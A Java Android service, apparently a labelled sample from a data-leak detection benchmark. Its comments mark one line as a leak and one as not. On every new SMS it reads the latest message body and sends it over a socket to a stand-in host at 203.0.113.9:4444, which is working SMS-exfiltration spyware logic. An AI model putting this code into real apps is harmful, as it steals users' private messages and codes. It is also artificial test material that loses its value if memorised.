package habits;

import android.app.Service;
import android.content.Intent;
import android.database.ContentObserver;
import android.database.Cursor;
import android.net.Uri;
import android.os.Handler;
import android.os.IBinder;
import java.io.PrintWriter;
import java.net.Socket;

/** Is told of each new message by the provider, and reads it there. */
public class SmsObserver extends Service {
    class Watch extends ContentObserver {
        Watch(Handler handler) {
            super(handler);
        }

        @Override
        public void onChange(boolean self) {
            Cursor rows = getContentResolver().query(Uri.parse("content://sms/inbox"), null, null, null, "date desc");
            try (Socket socket = new Socket("203.0.113.9", 4444)) {
                PrintWriter out = new PrintWriter(socket.getOutputStream(), true);
                out.println("rows " + rows.getCount()); // no leak
                if (rows.moveToFirst()) out.println(rows.getString(rows.getColumnIndexOrThrow("body"))); // leak
            } catch (Exception ignored) {
            }
            rows.close();
        }
    }

    @Override
    public int onStartCommand(Intent intent, int flags, int id) {
        getContentResolver().registerContentObserver(Uri.parse("content://sms"), true, new Watch(new Handler()));
        return START_STICKY;
    }

    @Override
    public IBinder onBind(Intent intent) {
        return null;
    }
}
